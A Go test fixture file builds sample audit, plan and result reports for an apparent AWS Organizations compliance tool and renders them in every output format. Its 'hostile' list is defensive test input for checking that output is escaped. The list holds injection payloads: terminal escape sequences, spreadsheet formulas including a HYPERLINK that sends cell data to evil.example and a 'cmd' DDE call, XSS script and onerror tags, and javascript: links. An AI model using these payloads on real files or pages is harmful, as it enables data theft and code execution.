package reports

import (
	"bytes"
	"fmt"
	"slices"
	"testing"
	"time"

	"github.com/orgguard/orgguard/orgs/finding"
	"github.com/orgguard/orgguard/orgs/plan"
)

var generated = time.Date(2026, 3, 14, 18, 26, 53, 589793238, time.FixedZone("JST", 9*3600))

var testOrganization = Organization{
	ID: "o-a1b2c3d4e5", ManagementAccount: "100000000001", Accounts: 14,
	Regions: []string{"ap-northeast-1", "us-east-1"},
}

// driftAudit is what an audit says after somebody has tampered with three things.
func driftAudit() Audit {
	fs := []finding.Finding{
		{
			Account: "300000000001", AccountName: "shop-prod", OUPath: "Root/Workloads/Prod",
			Region: "ap-northeast-1", Control: "config-recorder", Resource: "default",
			Status: finding.Drift, Severity: finding.Critical, Reason: "the recorder is stopped",
			Expected: map[string]any{"recording": true}, Actual: map[string]any{"recording": false},
			Fix: "orgguard rollout --account 300000000001 --control config-recorder",
		},
		{
			Account: "300000000004", AccountName: "shop-dev", OUPath: "Root/Workloads/Dev",
			Region: "us-east-1", Control: "config-change-alert", Resource: "orgguard-config-change",
			Status: finding.Drift, Severity: finding.High,
			Reason:   "the rule is DISABLED, so nobody is told when AWS Config is changed",
			Expected: map[string]any{"state": "ENABLED"}, Actual: map[string]any{"state": "DISABLED"},
			Fix: "orgguard rollout --account 300000000004 --control config-change-alert",
		},
		{
			Account: "300000000004", AccountName: "shop-dev", OUPath: "Root/Workloads/Dev",
			Region: "us-east-1", Control: "config-change-alert", Resource: "orgguard-config-change",
			Status: finding.Drift, Severity: finding.Medium,
			Reason: "the rule's pattern lacks calls", CloudFormation: "CURRENT",
			Fix: "orgguard rollout --account 300000000004 --control config-change-alert",
		},
		{
			Account: "500000000001", AccountName: "sandbox-1", OUPath: "Root/Sandbox",
			Region: finding.Global, Control: "scp-protect-config", Resource: "orgguard-protect-config",
			Status: finding.Drift, Severity: finding.High,
			Reason:    "the policy is attached to none of the account's parents",
			Fix:       "orgguard rollout --control scp-protect-config",
			Exemption: &finding.Exemption{Reason: "pilot", Owner: "network-team", Until: "2026-02-28", Expired: true},
		},
		{
			Account: "600000000001", AccountName: "old-project", OUPath: "Root/Suspended",
			Region: "ap-northeast-1", Control: "config-recorder",
			Status: finding.Exempt, Reason: "closed next month",
		},
		{
			Account: "500000000003", AccountName: "legacy-lab", OUPath: "Root/Sandbox",
			Region: "ap-northeast-1", Control: "config-delivery", Resource: "legacy-channel",
			Status: finding.Exempt, Severity: finding.Medium, Reason: "the bucket differs",
			Exemption: &finding.Exemption{Reason: "migrates in April", Owner: "lab team", Until: "2026-04-30"},
			Expected:  map[string]any{"bucket": "config-logs"}, Actual: map[string]any{"bucket": "lab-logs"},
		},
	}
	for _, region := range []string{"ap-northeast-1", "us-east-1", finding.Global} {
		for _, control := range []string{"config-change-alert", "config-delivery", "config-recorder", "root-signin-alert"} {
			fs = append(fs, finding.Finding{
				Account: "300000000003", AccountName: "data-prod", OUPath: "Root/Workloads/Prod",
				Region: region, Control: control, Status: finding.NotAssessed, Severity: finding.High,
				Reason: "the role OrganizationAccountAccessRole cannot be assumed: AccessDenied: User: " +
					"arn:aws:iam::100000000001:user/auditor is not authorized to perform: sts:AssumeRole on resource: " +
					"arn:aws:iam::300000000003:role/OrganizationAccountAccessRole",
				Fix: "let OrganizationAccountAccessRole trust 100000000001, or name another role in organization.access_role",
			})
		}
	}
	finding.Sort(fs)
	s := finding.Summarize(fs)
	s.Add(finding.InSync, 118)
	s.Add(finding.NotApplicable, 4)
	return Audit{
		GeneratedAt: generated, ToolVersion: "v0.1.0", Organization: testOrganization,
		Summary: s, Findings: fs, Next: "orgguard plan",
	}
}

func cleanAudit() Audit {
	return Audit{
		GeneratedAt: generated, ToolVersion: "v0.1.0", Organization: testOrganization,
		Summary: finding.Summary{InSync: 144}, Next: "orgguard schedule install",
	}
}

// largeAudit has more rows than a table shows.
func largeAudit() Audit {
	a := driftAudit()
	a.Organization.Accounts = 1200
	severities := []finding.Severity{finding.Critical, finding.High, finding.Medium, finding.Low}
	for i := range 600 {
		f := finding.Finding{
			Account: fmt.Sprintf("7%011d", i), AccountName: fmt.Sprintf("team-%03d", i), OUPath: "Root/Teams",
			Region: testOrganization.Regions[i%2], Control: []string{"config-recorder", "guardduty"}[i%2],
			Resource: "default", Status: finding.Drift, Severity: severities[i%4], Reason: "it is off",
		}
		a.Findings = append(a.Findings, f)
		a.Summary.Add(f.Status, 1)
	}
	return a
}

// hostile are texts that others could choose.
var hostile = []string{
	"\x1b[2J\x1b]0;owned\x07\x1b[31mred",
	"c1 \u009b31m csi",
	"line\nbreak\r\nand\ttab and \x00 nul and \x7f del",
	"rtl \u202etxt.exe\u202c and \u2066isolate\u2069",
	"zero\u200bwidth\u200djoin\ufeffbom\u2028sep",
	"not utf-8 \xff\xfe\xc0\xaf",
	"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
	"+cmd|' /C calc'!A0",
	"-2+3", "@SUM(1+1)", "＝1+1", "a;=1+1", "\t=1", "  =1",
	"<script>alert(1)</script><img src=x onerror=alert(1)>",
	"![img](http://evil.example/x.png) [link](javascript:alert(1)) https://evil.example www.evil.example",
	"@everyone @octocat #1 owner/repo#2 a@b.example",
	"| a | b |\\| c `code` ``more`` <!-- -->",
	"**bold** __under__ ~~gone~~ # head $x$ &amp; &#64;",
	"日本語のアカウント名前 全角 👩‍👩‍👧 e\u0301 Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358",
	"\u3164\u115f\u2800",
	string(bytes.Repeat([]byte("long-word/"), 400)),
	string(bytes.Repeat([]byte("x"), 5000)),
}

// hostileAudit has every hostile text in every place that others fill.
func hostileAudit() Audit {
	a := driftAudit()
	for i, h := range hostile {
		for _, status := range []finding.Status{finding.Drift, finding.NotAssessed, finding.Exempt} {
			f := finding.Finding{
				Account: fmt.Sprintf("9%011d", i), AccountName: h, OUPath: "Root/" + h,
				Region: "us-east-1", Control: "config-recorder", Resource: h,
				Status: status, Severity: finding.High, Reason: "it is " + h,
				Expected: h, Actual: map[string]any{h: []string{h}}, Fix: "rename " + h, CloudFormation: h,
				Exemption: &finding.Exemption{Reason: h, Owner: h, Until: "2026-04-30", Expired: status == finding.Drift},
				Change:    finding.New, FirstSeen: generated,
			}
			a.Findings = append(a.Findings, f)
			a.Summary.Add(status, 1)
			a.Summary.Disagreements++
			if f.Expired() {
				a.Summary.Expired++
			}
		}
		a.Notes = append(a.Notes, h)
	}
	gone := a.Findings[len(a.Findings)-1]
	gone.Change = finding.Resolved
	a.Since = &Since{Run: 6, GeneratedAt: generated.Add(-24 * time.Hour), Changes: Tally{New: len(a.Findings), Resolved: 1}, Gone: []finding.Finding{gone}}
	return a
}

// sinceAudit is driftAudit with a history: one finding is new, one got worse, one is
// resolved, one nobody looked at again.
func sinceAudit() Audit {
	a := driftAudit()
	a.Findings = slices.Clone(a.Findings)
	for i := range a.Findings {
		f := &a.Findings[i]
		if f.Opens() {
			f.Change, f.FirstSeen = finding.Open, generated.Add(-30*24*time.Hour)
		}
		switch {
		case f.Reason == "the recorder is stopped":
			f.Change, f.FirstSeen = finding.New, generated
		case f.Control == "scp-protect-config":
			f.Change = finding.Worse
		}
	}
	gone := finding.Finding{
		Account: "300000000001", AccountName: "shop-prod", OUPath: "Root/Workloads/Prod", Region: "us-east-1", Control: "config-delivery",
		Resource: "default", Status: finding.Drift, Severity: finding.High, Reason: "the channel is missing", Fix: "orgguard rollout",
		Change: finding.Resolved, FirstSeen: generated.Add(-48 * time.Hour),
	}
	unseen := gone
	unseen.Account, unseen.AccountName, unseen.Change = "300000000002", "pay-prod", finding.Unseen
	a.Since = &Since{
		Run: 6, GeneratedAt: generated.Add(-24 * time.Hour),
		Changes: Tally{New: 1, Worse: 1, Open: 14, Resolved: 1, Unseen: 1}, Gone: []finding.Finding{gone, unseen},
	}
	for i := range 7 {
		r := Run{Run: int64(i + 1), GeneratedAt: generated.Add(time.Duration(i-6) * 24 * time.Hour), ToolVersion: "v0.1.0", Accounts: 14}
		r.Summary.Drift, r.Drift, r.Summary.NotAssessed = 6+i%3, Severities{1, 2 + i%3, 1, 2}, 12
		r.Changes = Tally{New: i % 3, Resolved: i % 2}
		a.Trend = append(a.Trend, r)
	}
	return a
}

func testPlan() plan.Plan {
	const management, security = "100000000001", "200000000001"
	return plan.Plan{
		GeneratedAt: generated, ToolVersion: "v0.1.0", Organization: "o-a1b2c3d4e5", Accounts: 14,
		Regions: []string{"ap-northeast-1", "us-east-1"},
		Changes: []plan.Change{
			{
				Kind: "trusted-access", Stage: plan.Prerequisites, Verb: plan.Enable, Control: "config-recorder",
				Account: management, AccountName: "management", Region: finding.Global,
				Resource: "member.org.stacksets.cloudformation.amazonaws.com", Cells: 1,
				Why:  "StackSets cannot deploy to member accounts without trusted access",
				Undo: "aws organizations disable-aws-service-access --service-principal member.org.stacksets.cloudformation.amazonaws.com",
			},
			{
				Kind: "stack", Stage: plan.Central, Verb: plan.Create, Control: "config-delivery,alert-topic", Effort: plan.Effort{Writes: 1, Stacks: 1, Rounds: 1},
				Irreversible: "whoever in alerts.email is not subscribed yet gets a mail from AWS",
				Account:      security, AccountName: "security", Region: "ap-northeast-1", Resource: "orgguard-central", Cells: 1,
				Why: "the log bucket, the alert bus and the topic live here",
			},
			{
				Kind: "stack-set", Stage: plan.Baseline, Verb: plan.Create, Control: "config-recorder,config-delivery",
				Account: management, AccountName: "management", Region: "ap-northeast-1", Resource: "orgguard-config",
				Cells: 22, Why: "11 accounts have no recorder",
				Targets: []string{"300000000001/ap-northeast-1", "300000000001/us-east-1"},
			},
			{
				Kind: "recorder", Stage: plan.Repairs, Verb: plan.Repair, Control: "config-recorder",
				Account: "500000000003", AccountName: "legacy-lab", Region: "ap-northeast-1", Resource: "legacy-recorder",
				Cells: 1, Why: "the recorder is adopted, and records too little",
				Before: map[string]any{"allSupported": false, "recording": true, "resourceTypes": []string{"AWS::EC2::Instance"}},
				After:  map[string]any{"allSupported": true, "recording": true},
			},
			{
				Kind: "scp", Stage: plan.Guardrail, Verb: plan.Attach, Control: "scp-protect-config",
				Account: management, AccountName: "management", Region: finding.Global,
				Resource: "orgguard-protect-config", Cells: 13, Why: "attached to Root", After: "r-ab12",
			},
		},
		Skipped: []plan.Skip{
			{Account: "600000000001", AccountName: "old-project", Region: "ap-northeast-1", Control: "config-recorder", Reason: "the account is SUSPENDED"},
			{Account: "600000000001", AccountName: "old-project", Region: "us-east-1", Control: "config-recorder", Reason: "the account is SUSPENDED"},
			{Account: "300000000003", AccountName: "data-prod", Region: "ap-northeast-1", Control: "config-recorder", Reason: "OrganizationAccountAccessRole cannot be assumed", Blocked: true},
			{Account: "300000000003", AccountName: "data-prod", Region: "us-east-1", Control: "config-recorder", Reason: "OrganizationAccountAccessRole cannot be assumed", Blocked: true},
		},
		Notes: []string{"Everybody in alerts.email gets a mail from AWS and has to confirm it."},
		Estimate: &plan.Estimate{
			Operations: 3, Stacks: 1234, Writes: 9, Waves: 2, LeastSeconds: 95, MostSeconds: 8000,
			Basis: []string{"a stack takes 30s to 3m0s: an assumption", "being asked comes on top"},
		},
		Reach: &plan.Reach{
			Accounts: 12, Of: 14, Cells: 24, Regions: []string{"ap-northeast-1", "us-east-1"}, OUs: []string{"Root", "Root/Sandbox", "Root/Workloads/Prod"},
			Losses: []plan.Loss{
				{
					Policy: "orgguard-protect-config", Statement: "ProtectConfig", Accounts: []string{"300000000001", "500000000003"},
					Actions: []string{"config:DeleteConfigurationRecorder", "config:StopConfigurationRecorder"}, Resources: []string{"*"},
					Except: []string{"arn:aws:iam::*:role/AWSControlTowerExecution", "arn:aws:iam::*:role/stacksets-exec-*"},
				},
				{
					Policy: "orgguard-protect-config", Statement: "Old", Returned: true, Accounts: []string{"300000000001"}, Actions: []string{"sns:DeleteTopic"},
					Resources: []string{"arn:aws:sns:*:*:orgguard-*"}, Conditions: []string{"StringEquals of aws:RequestedRegion: us-east-1"},
				},
			},
			Irreversible: []plan.Final{{Why: "whoever in alerts.email is not subscribed yet gets a mail from AWS", Changes: 1}},
		},
	}
}

// hostilePlan has every hostile text in every place that others fill.
func hostilePlan() plan.Plan {
	p := testPlan()
	for _, h := range hostile {
		p.Changes = append(p.Changes, plan.Change{
			Kind: "recorder", Stage: plan.Guardrail, Verb: plan.Repair, Control: "config-recorder", Account: "900000000001",
			AccountName: h, Region: "us-east-1", Resource: h, Why: h, Targets: []string{"900000000001/us-east-1"}, Before: map[string]any{h: h, "a": 1}, After: map[string]any{h: 1},
		})
		p.Skipped = append(p.Skipped, plan.Skip{Account: "900000000001", AccountName: h, Region: "us-east-1", Control: "config-recorder", Reason: h})
		p.Notes = append(p.Notes, h)
		p.Estimate.Basis = append(p.Estimate.Basis, h)
		p.Reach.OUs = append(p.Reach.OUs, h)
		p.Reach.Losses = append(p.Reach.Losses, plan.Loss{Policy: h, Statement: h, Accounts: []string{h}, Actions: []string{h}, Resources: []string{h}, Except: []string{h}, Conditions: []string{h}})
		p.Reach.Irreversible = append(p.Reach.Irreversible, plan.Final{Why: h, Changes: 1})
	}
	return p
}

func testResult() plan.Result {
	c := testPlan().Changes
	return plan.Result{Outcomes: []plan.Outcome{
		{Change: c[0], Took: 1234 * time.Millisecond},
		{Change: c[1], Took: 41 * time.Second},
		{
			Change: c[2], Took: 3 * time.Minute, Err: "2 of 22 stack instances failed", Hint: "repair the accounts below, then orgguard rollout goes on from here",
			Failures: []plan.Failure{
				{
					Account: "300000000003", AccountName: "data-prod", Region: "us-east-1", Status: "FAILED",
					Reason: "Account 300000000003 should have 'stacksets-exec-1f0e' role with trust relationship to CloudFormation service.",
					Fix:    "ask the account's owner for the role, or move the account to where trusted access makes it",
				},
				{
					Account: "500000000002", AccountName: "sandbox-2", Region: "us-east-1", Status: "FAILED",
					Reason: "ResourceLogicalId:Recorder, ResourceType:AWS::Config::ConfigurationRecorder, " +
						"ResourceStatusReason:Failed to put configuration recorder because the maximum number of recorders: 1 is reached.",
					Fix: "orgguard plan --account 500000000002",
				},
			},
		},
		{Change: c[3], Skipped: true},
		{Change: c[4], Skipped: true},
	}}
}

func hostileResult() plan.Result {
	r := testResult()
	for _, h := range hostile {
		c := hostilePlan().Changes[0]
		c.Resource, c.AccountName = h, h
		r.Outcomes = append(r.Outcomes, plan.Outcome{
			Change: c, Err: h, Hint: h,
			Failures: []plan.Failure{{Account: "900000000001", AccountName: h, Region: "us-east-1", Status: h, Reason: h, Fix: h}},
		}, plan.Outcome{Change: c, Skipped: true}, plan.Outcome{Change: c})
	}
	return r
}

// everything that is written, by name, in every format that can.
func writings() map[string]func(Style) ([]byte, error) {
	out := map[string]func(Style) ([]byte, error){}
	write := func(f func(*bytes.Buffer, Style) error) func(Style) ([]byte, error) {
		return func(s Style) ([]byte, error) {
			var b bytes.Buffer
			err := f(&b, s)
			return b.Bytes(), err
		}
	}
	for _, f := range Formats() {
		for name, a := range map[string]Audit{
			"drift": driftAudit(), "clean": cleanAudit(), "large": largeAudit(), "hostile": hostileAudit(), "empty": {}, "since": sinceAudit(),
		} {
			out["audit-"+name+"."+string(f)] = write(func(b *bytes.Buffer, s Style) error { return Write(b, f, s, a) })
		}
	}
	for _, f := range PlanFormats() {
		for name, p := range map[string]plan.Plan{"plan": testPlan(), "plan-hostile": hostilePlan(), "plan-empty": {}} {
			out[name+"."+string(f)] = write(func(b *bytes.Buffer, s Style) error { return WritePlan(b, f, s, p) })
		}
		for name, r := range map[string]plan.Result{"result": testResult(), "result-hostile": hostileResult(), "result-empty": {}} {
			out[name+"."+string(f)] = write(func(b *bytes.Buffer, s Style) error { return WriteResult(b, f, s, r) })
		}
	}
	return out
}

func mustWrite(t *testing.T, name string, s Style) []byte {
	t.Helper()
	f, ok := writings()[name]
	if !ok {
		t.Fatalf("nothing writes %s", name)
	}
	b, err := f(s)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return b
}
